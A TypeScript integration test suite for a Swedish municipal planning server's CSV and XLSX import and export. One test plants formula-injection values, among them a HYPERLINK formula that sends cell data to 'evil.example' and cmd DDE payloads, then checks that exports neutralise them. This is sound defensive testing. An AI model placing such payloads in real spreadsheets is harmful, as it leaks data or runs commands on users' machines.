/**
 * Import (preview, then confirmed apply) and export against a real server, on both stores.
 * What was written is read back with a stock y-websocket client, so the test sees what every
 * open client sees.
 */
import {
  assignmentsDocumentName,
  type ImportFailure,
  type ImportIssue,
  type ImportPreview,
  importFailure,
  importPreview,
  readAssignments,
  readReport,
  reportDocumentName,
} from '@foljsam/domain';
import { councilAssignments2015, demoReportsFor2015, plan2015 } from '@foljsam/domain/seed';
import ExcelJS from 'exceljs';
import * as prng from 'lib0/prng';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signIn } from '../support/auth';
import { type ServerProcess, startServerProcess } from '../support/serverProcess';
import { freshServerOptions, STORAGES } from '../support/storage';
import { connectClient } from '../support/yClient';

/** Three good rows and three bad ones: unknown department, a date that does not exist, a duplicate. */
const ASSIGNMENTS_CSV = [
  'id,title,department,startDate,endDate,status,responsiblePerson',
  'imp-1,Utred gång- och cykelväg i Alafors,mark-exploatering,2015-03-01,2015-10-31,pågår,Anna Berg',
  'imp-2,Ta fram en plan för digital närvaro,8.1.9,2015-04-01,2015-12-31,ej påbörjad,',
  'imp-3,Se över lokalförsörjningen,Ekonomi och upphandling,2015-02-01,2015-09-30,klar,Per Ek',
  'imp-4,Utred nytt kontor,Stadsbyggnad,2015-03-01,2015-10-31,pågår,',
  'imp-5,Starta ungdomsråd,utveckling,2015-02-30,2015-10-31,pågår,',
  'imp-1,Utred gång- och cykelväg i Alafors,mark-exploatering,2015-03-01,2015-10-31,pågår,Anna Berg',
].join('\n');

type Preview = ImportPreview;

/** An issue without its English message, for comparing codes and parameters. */
const coded = ({ message, ...rest }: ImportIssue) => {
  expect(message).toMatch(/\w/);
  return rest;
};
const departmentName = (id: string) => plan2015.departments.find((d) => d.id === id)?.name;

/** A preview, checked against the shared schema. */
async function previewOf(response: Response): Promise<Preview> {
  expect(response.status).toBe(200);
  return importPreview.parse(await response.json());
}
/** A refused request's body, checked against the shared schema. */
async function failureOf(response: Response, status: number): Promise<ImportFailure> {
  expect(response.status).toBe(status);
  return importFailure.parse(await response.json());
}

describe.each(STORAGES)('import and export (%s)', (storage) => {
  let server: ServerProcess;
  const tokens: Record<string, string> = {};

  beforeAll(async () => {
    server = await startServerProcess(await freshServerOptions(storage));
    for (const username of ['kommunchef', 'chef-hr', 'lasare'])
      tokens[username] = (await signIn(server.url, username)).token;
  });
  afterAll(async () => {
    await server?.kill('SIGTERM');
  });

  const post = (path: string, body: string | Uint8Array<ArrayBuffer>, username = 'kommunchef') =>
    fetch(`${server.url}${path}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${tokens[username]}`, 'content-type': 'application/octet-stream' },
      body,
    });

  async function assignmentsOnServer() {
    const client = connectClient(server.wsUrl, assignmentsDocumentName(2015), tokens.kommunchef as string);
    try {
      await client.synced;
      return readAssignments(client.doc);
    } finally {
      client.destroy();
    }
  }

  async function reportOnServer(month: string, departmentId: string) {
    const client = connectClient(
      server.wsUrl,
      reportDocumentName(month, departmentId),
      tokens.kommunchef as string,
    );
    try {
      await client.synced;
      return readReport(client.doc, month, departmentId);
    } finally {
      client.destroy();
    }
  }

  it('assignments CSV: the preview reports exactly the 3 bad rows and writes nothing', async () => {
    const preview = await previewOf(
      await post('/api/import/assignments/preview?year=2015&format=csv', ASSIGNMENTS_CSV),
    );
    expect(preview).toMatchObject({ total: 6, valid: 3, invalid: 3 });
    const errors = preview.rows.filter((r) => r.errors.length > 0);
    expect(errors.map((r) => r.line)).toEqual([5, 6, 7]);
    expect(errors.map((r) => r.errors.map(coded))).toEqual([
      [{ code: 'unknownDepartment', field: 'department', value: 'Stadsbyggnad' }],
      [{ code: 'invalidDate', field: 'startDate', value: '2015-02-30' }],
      [{ code: 'duplicateRow', line: 2 }],
    ]);
    // The plain English message stays for API users.
    expect(errors[0]?.errors[0]?.message).toBe('department: unknown department "Stadsbyggnad"');
    expect((await assignmentsOnServer()).map((a) => a.id)).toEqual(councilAssignments2015.map((a) => a.id));

    // All or nothing refuses the file and still writes nothing.
    const all = await failureOf(
      await post('/api/import/assignments/apply?year=2015&format=csv&mode=all', ASSIGNMENTS_CSV),
      422,
    );
    expect(coded(all.issue)).toEqual({ code: 'rowsHaveErrors', count: 3 });
    expect(all.rows?.map((r) => r.errors.map((e) => e.code))).toEqual([
      ['unknownDepartment'],
      ['invalidDate'],
      ['duplicateRow'],
    ]);
    expect(await assignmentsOnServer()).toHaveLength(councilAssignments2015.length);
  });

  it('assignments CSV: applying the valid rows adds exactly those 3', async () => {
    const before = await assignmentsOnServer();
    const response = await post(
      '/api/import/assignments/apply?year=2015&format=csv&mode=valid',
      ASSIGNMENTS_CSV,
    );
    expect(response.status).toBe(200);
    expect(await response.json()).toEqual({ applied: 3, skipped: 3 });
    const after = await assignmentsOnServer();
    expect(
      after.filter((a) => !before.some((b) => JSON.stringify(a) === JSON.stringify(b))).map((a) => a.id),
    ).toEqual(['imp-1', 'imp-2', 'imp-3']);
    expect(after.find((a) => a.id === 'imp-2')).toMatchObject({
      departmentId: 'kommunikation',
      status: 'ej-paborjad',
    });
    expect(after.find((a) => a.id === 'imp-3')).toMatchObject({
      departmentId: 'ekonomi-upphandling',
      status: 'klar',
    });
  });

  it('refuses assignment imports from other roles, any import from a läsare (403), and a broken query (400)', async () => {
    expect(
      (await post('/api/import/assignments/preview?year=2015&format=csv', ASSIGNMENTS_CSV, 'chef-hr')).status,
    ).toBe(403);
    expect(
      (await post('/api/import/assignments/preview?year=2015&format=csv', ASSIGNMENTS_CSV, 'lasare')).status,
    ).toBe(403);
    const outcomes = 'month,indicatorId,value\n2015-03,ind-heltid,70';
    expect(
      (await post('/api/import/indicator-outcomes/preview?year=2015&format=csv', outcomes, 'lasare')).status,
    ).toBe(403);
    expect((await post('/api/import/assignments/preview?year=2015&format=pdf', ASSIGNMENTS_CSV)).status).toBe(
      400,
    );
    const xlsx = await failureOf(
      await post('/api/import/assignments/preview?year=2015&format=xlsx', 'not a workbook'),
      400,
    );
    expect(xlsx.error).toMatch(/XLSX/);
    expect(coded(xlsx.issue)).toEqual({ code: 'unreadableXlsx' });
  });

  it('answers file errors with a code: binary CSV, missing columns, no plan, too many rows, too large', async () => {
    const path = '/api/import/assignments/preview?year=2015&format=csv';
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('Uppdrag').addRow(['title', 'startDate', 'endDate']);
    const binary = new Uint8Array(await workbook.xlsx.writeBuffer());
    expect(coded((await failureOf(await post(path, binary), 400)).issue)).toEqual({ code: 'unreadableCsv' });

    const columns = await failureOf(await post(path, 'id;title;department\nx;Ett uppdrag;hr'), 400);
    expect(coded(columns.issue)).toEqual({ code: 'missingColumns', columns: ['startDate', 'endDate'] });
    expect(columns.error).toBe('the file lacks the column(s) startDate, endDate');

    const noPlan = await failureOf(
      await post('/api/import/assignments/preview?year=2031&format=csv', ASSIGNMENTS_CSV),
      404,
    );
    expect(coded(noPlan.issue)).toEqual({ code: 'noPlan', year: 2031 });

    const header = 'month,indicatorId,value';
    const rows = Array.from({ length: 10_001 }, () => '2015-03,ind-heltid,1');
    const many = await failureOf(
      await post('/api/import/indicator-outcomes/preview?year=2015&format=csv', [header, ...rows].join('\n')),
      400,
    );
    // Reading stops at the first row past the limit, so the file is not counted to its end.
    expect(coded(many.issue)).toEqual({ code: 'tooManyRows', max: 10_000 });

    const large = await failureOf(await post(path, new Uint8Array(5 * 1024 * 1024 + 1)), 413);
    expect(coded(large.issue)).toEqual({ code: 'tooLarge', max: 5 * 1024 * 1024 });
  });

  it('codes every kind of row error with its parameters', async () => {
    const assignments = [
      'id,title,department,startDate,endDate,status',
      'code-1,,hr,2015-03-01,2015-10-31,pågår',
      'code-2,Ett uppdrag,hr,2015-03-01,2015-01-31,pågår',
      'code-3,Ett uppdrag,hr,2015-03-01,2015-10-31,nästan klar',
      'Code 4!,Ett uppdrag,hr,2015-03-01,2015-10-31,klar',
      `code-5,${'x'.repeat(501)},hr,2015-03-01,2015-10-31,klar`,
      'code-6,Ett uppdrag,hr,2015-03-01,,klar',
    ].join('\n');
    const preview = await previewOf(
      await post('/api/import/assignments/preview?year=2015&format=csv', assignments),
    );
    expect(preview.rows.map((r) => r.errors.map(coded))).toEqual([
      [{ code: 'missingField', field: 'title' }],
      [{ code: 'endBeforeStart', field: 'endDate' }],
      [{ code: 'unknownStatus', field: 'status', value: 'nästan klar' }],
      [{ code: 'invalidId', field: 'id', value: 'Code 4!' }],
      [{ code: 'tooLong', field: 'title', max: 500 }],
      [{ code: 'missingField', field: 'endDate' }],
    ]);

    const outcomes = [
      'month;indicatorId;value',
      '2015-13;ind-heltid;70',
      '2016-03;ind-heltid;70',
      '2015-03;;70',
      '2015-04;ind-heltid;sjuttio',
    ].join('\n');
    const outcomePreview = await previewOf(
      await post('/api/import/indicator-outcomes/preview?year=2015&format=csv', outcomes),
    );
    expect(outcomePreview.rows.map((r) => r.errors.map(coded))).toEqual([
      [{ code: 'invalidMonth', field: 'month', value: '2015-13' }],
      [{ code: 'monthOutsideYear', field: 'month', value: '2016-03', year: 2015 }],
      [{ code: 'missingField', field: 'indicatorId' }],
      [{ code: 'notANumber', field: 'value', value: 'sjuttio' }],
    ]);
  });

  it('indicator outcomes (XLSX) by a department head: text for a number, unknown indicator, another department', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Utfall');
    sheet.addRows([
      ['month', 'indicatorId', 'value'],
      ['2015-03', 'ind-heltid', '79,5'],
      ['2015-04', 'ind-heltid', 80],
      ['2015-05', 'ind-heltid', 81],
      ['2015-06', 'ind-heltid', 'åttio'],
      ['2015-03', 'ind-finns-inte', 5],
      ['2015-03', 'ind-elektroniska-fakturor', 44],
    ]);
    const file = new Uint8Array(await workbook.xlsx.writeBuffer());
    const preview = await previewOf(
      await post('/api/import/indicator-outcomes/preview?year=2015&format=xlsx', file, 'chef-hr'),
    );
    expect(preview).toMatchObject({ total: 6, valid: 3, invalid: 3 });
    expect(preview.rows.filter((r) => r.errors.length > 0).map((r) => r.errors.map(coded))).toEqual([
      [{ code: 'notANumber', field: 'value', value: 'åttio' }],
      [{ code: 'unknownIndicator', field: 'indicatorId', value: 'ind-finns-inte' }],
      [
        {
          code: 'otherDepartment',
          departmentId: 'ekonomi-upphandling',
          departmentName: departmentName('ekonomi-upphandling'),
        },
      ],
    ]);
    const marchBefore = await reportOnServer('2015-03', 'hr');
    const apply = await post(
      '/api/import/indicator-outcomes/apply?year=2015&format=xlsx&mode=valid',
      file,
      'chef-hr',
    );
    expect(await apply.json()).toEqual({ applied: 3, skipped: 3 });
    const march = await reportOnServer('2015-03', 'hr');
    expect(march.indicatorOutcomes['ind-heltid']).toBe(79.5);
    expect(marchBefore.indicatorOutcomes['ind-heltid']).not.toBe(79.5);
    expect((await reportOnServer('2015-05', 'hr')).indicatorOutcomes['ind-heltid']).toBe(81);
    // Ekonomi's report was not touched.
    const ekonomi = await reportOnServer('2015-03', 'ekonomi-upphandling');
    expect(ekonomi.indicatorOutcomes['ind-elektroniska-fakturor']).not.toBe(44);
  });

  it('an approved month is an error in the preview and refused with 409 on apply', async () => {
    const csv = 'month;indicatorId;value\n2015-01;ind-heltid;70\n2015-03;ind-heltid;79';
    const preview = await previewOf(
      await post('/api/import/indicator-outcomes/preview?year=2015&format=csv', csv),
    );
    expect(preview.rows[0]?.errors.map(coded)).toEqual([
      { code: 'reportApproved', month: '2015-01', departmentId: 'hr', departmentName: departmentName('hr') },
    ]);
    const apply = await failureOf(
      await post('/api/import/indicator-outcomes/apply?year=2015&format=csv&mode=valid', csv),
      409,
    );
    expect(coded(apply.issue)).toEqual({ code: 'approvedMonth' });
    const january = await reportOnServer('2015-01', 'hr');
    expect(january.indicatorOutcomes['ind-heltid']).not.toBe(70);
  });

  it('answers random files with a 4xx and a message, never a 5xx, and writes nothing', async () => {
    const before = await assignmentsOnServer();
    const gen = prng.create(7011);
    for (let i = 0; i < 40; i++) {
      const kind = prng.oneOf(gen, ['assignments', 'indicator-outcomes']);
      const format = prng.oneOf(gen, ['csv', 'xlsx']);
      const body =
        prng.int32(gen, 0, 2) === 0
          ? new Uint8Array(Array.from({ length: prng.int32(gen, 0, 4000) }, () => prng.uint32(gen, 0, 255)))
          : `month,indicatorId,value,title,department\n${prng.utf16String(gen, prng.int32(gen, 0, 500))}`;
      const mode = prng.oneOf(gen, ['preview', 'apply']);
      const response = await post(`/api/import/${kind}/${mode}?year=2015&format=${format}&mode=all`, body);
      expect(response.status).toBeLessThan(500);
      // Every refusal says why in English and with a code.
      if (response.status >= 400) expect(importFailure.parse(await response.json()).error).toBeTruthy();
    }
    expect(await assignmentsOnServer()).toEqual(before);
  });

  it('defuses formulas in every exported CSV, in Swedish Excel dialect, and reads its own export back unchanged', async () => {
    // What an attacker types into fields a spreadsheet user later opens (OWASP's starts: = + - @ tab CR).
    const hostile = {
      title: '=HYPERLINK("http://evil.example/?"&A1,"Klicka här")',
      responsiblePerson: "+cmd|' /C calc'!A0",
      decisionRef: "@SUM(1+1)*cmd|' /C calc'!A0",
      description: "-2+3+cmd|' /C calc'!A0",
      // A line break after the formula: papaparse's own default pattern lets this one through.
      progressNote: '=1+1\nandra raden; med semikolon',
    };
    const csv = Papa.unparse({
      fields: [
        'id',
        'title',
        'department',
        'startDate',
        'endDate',
        'status',
        'responsiblePerson',
        'decisionRef',
        'description',
        'progressNote',
      ],
      data: [
        [
          'formel-1',
          hostile.title,
          'hr',
          '2015-03-01',
          '2015-10-31',
          'pågår',
          hostile.responsiblePerson,
          hostile.decisionRef,
          hostile.description,
          hostile.progressNote,
        ],
      ],
    });
    const applied = await post('/api/import/assignments/apply?year=2015&format=csv&mode=all', csv);
    expect(applied.status).toBe(200);
    expect(await applied.json()).toEqual({ applied: 1, skipped: 0 });
    expect((await assignmentsOnServer()).find((a) => a.id === 'formel-1')).toMatchObject(hostile);

    const get = (path: string, username = 'lasare') =>
      fetch(`${server.url}${path}`, { headers: { authorization: `Bearer ${tokens[username]}` } });
    const exported = new Uint8Array(
      await (await get('/api/export/assignments?year=2015&format=csv')).arrayBuffer(),
    );
    // Swedish Excel's dialect: a UTF-8 byte-order mark, ";" between fields, CRLF line ends.
    expect([...exported.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    // The decoder drops the byte-order mark checked above.
    const text = new TextDecoder().decode(exported);
    expect(text.split('\r\n')[0]).toBe(
      'id;title;department;startDate;endDate;status;responsiblePerson;decisionRef;description;progressNote',
    );
    const parsed = Papa.parse<Record<string, string>>(text, {
      header: true,
      delimiter: ';',
      skipEmptyLines: true,
    });
    const row = parsed.data.find((r) => r.id === 'formel-1');
    // Every hostile cell starts with a quote: a spreadsheet shows it as text and runs nothing.
    for (const field of Object.keys(hostile) as (keyof typeof hostile)[]) {
      expect(row?.[field]).toBe(`'${hostile[field]}`);
    }
    // No cell of the file starts like a formula (a negative number is no formula).
    const cells = parsed.data.flatMap((r) => Object.values(r));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(,\d+)?$/.test(cell))).toEqual([]);

    // Round trip: the export imports back as the same text, without the quotes it added.
    const roundTrip = await previewOf(
      await post('/api/import/assignments/preview?year=2015&format=csv', exported),
    );
    expect(roundTrip.invalid).toBe(0);
    const cellsBack = roundTrip.rows.find((r) => r.cells.id === 'formel-1')?.cells;
    expect(cellsBack).toMatchObject({
      title: hostile.title,
      responsibleperson: hostile.responsiblePerson,
      decisionref: hostile.decisionRef,
      description: hostile.description,
      progressnote: hostile.progressNote,
    });

    // The audit log's CSV goes through the same writer: same dialect, formulas defused.
    const audit = await get('/api/audit?from=2000-01-01&to=2000-12-31&format=csv', 'kommunchef');
    const auditBytes = new Uint8Array(await audit.arrayBuffer());
    expect([...auditBytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(auditBytes)).toBe(
      'Tid;Användare;Händelse;Dokument;Fält;Från;Till;Kommentar\r\n',
    );

    // XLSX: a value starting with "=" is a text cell, never a formula.
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(
      await (await get('/api/export/assignments?year=2015&format=xlsx')).arrayBuffer(),
    );
    const sheet = workbook.worksheets[0] as ExcelJS.Worksheet;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    let found = false;
    sheet.eachRow((r) => {
      if (r.getCell(1).value !== 'formel-1') return;
      found = true;
      const titleCell = r.getCell(header.indexOf('title') + 1);
      expect(titleCell.type).toBe(ExcelJS.ValueType.String);
      expect(titleCell.value).toBe(hostile.title);
      expect(titleCell.formula).toBeUndefined();
    });
    expect(found).toBe(true);
  });

  it('applies an all-or-nothing import as one stored update, so a crash cannot leave half of it', async () => {
    // More rows than the old chunks of 200, each a new assignment.
    const rows = Array.from(
      { length: 450 },
      (_, i) => `atom-${i},Atomärt uppdrag ${i},hr,2015-03-01,2015-10-31,pågår,`,
    );
    const csv = ['id,title,department,startDate,endDate,status,responsiblePerson', ...rows].join('\n');
    const response = await post('/api/import/assignments/apply?year=2015&format=csv&mode=all', csv);
    expect(response.status).toBe(200);
    expect(await response.json()).toEqual({ applied: 450, skipped: 0 });
    const seqOf = async (id: string) => {
      const history = await fetch(
        `${server.url}/api/documents/${encodeURIComponent(assignmentsDocumentName(2015))}/history?field=${encodeURIComponent(`assignments/${id}/title`)}`,
        { headers: { authorization: `Bearer ${tokens.kommunchef}` } },
      );
      expect(history.status).toBe(200);
      const { entries } = (await history.json()) as { entries: { seq: number }[] };
      expect(entries).toHaveLength(1);
      return entries[0]?.seq;
    };
    // The first and the last row came in the same update: there is no state in between to be left in.
    const first = await seqOf('atom-0');
    expect(first).toBeGreaterThan(0);
    expect(await seqOf('atom-449')).toBe(first);
    expect(await seqOf('atom-225')).toBe(first);
  });

  it('exports assignments as CSV that the import reads back, and the budget as XLSX', async () => {
    const get = (path: string) =>
      fetch(`${server.url}${path}`, { headers: { authorization: `Bearer ${tokens.lasare}` } });
    const csvResponse = await get('/api/export/assignments?year=2015&format=csv');
    expect(csvResponse.headers.get('content-type')).toContain('text/csv');
    const csv = await csvResponse.text();
    const parsed = Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ''), {
      header: true,
      skipEmptyLines: true,
    });
    const onServer = await assignmentsOnServer();
    expect(parsed.data.map((r) => r.id)).toEqual(onServer.map((a) => a.id));
    // The export is a valid import: every row passes, as updates of the same assignments.
    const roundTrip = await previewOf(
      await post('/api/import/assignments/preview?year=2015&format=csv', csv),
    );
    expect(roundTrip).toMatchObject({ total: onServer.length, invalid: 0 });

    const xlsx = await get('/api/export/budget?year=2015&format=xlsx');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await xlsx.arrayBuffer());
    const sheet = workbook.worksheets[0];
    // One row per started report: the demo's, plus HR's April and May from the import above.
    expect((sheet?.rowCount ?? 0) - 1).toBe(demoReportsFor2015().length + 2);
    const values = await get('/api/export/indicator-values?year=2015&format=csv');
    const rows = Papa.parse<Record<string, string>>((await values.text()).replace(/^\uFEFF/, ''), {
      header: true,
      skipEmptyLines: true,
    }).data;
    // Swedish Excel's dialect: a decimal comma.
    expect(rows.find((r) => r.month === '2015-03' && r.indicatorId === 'ind-heltid')?.value).toBe('79,5');
  });
});
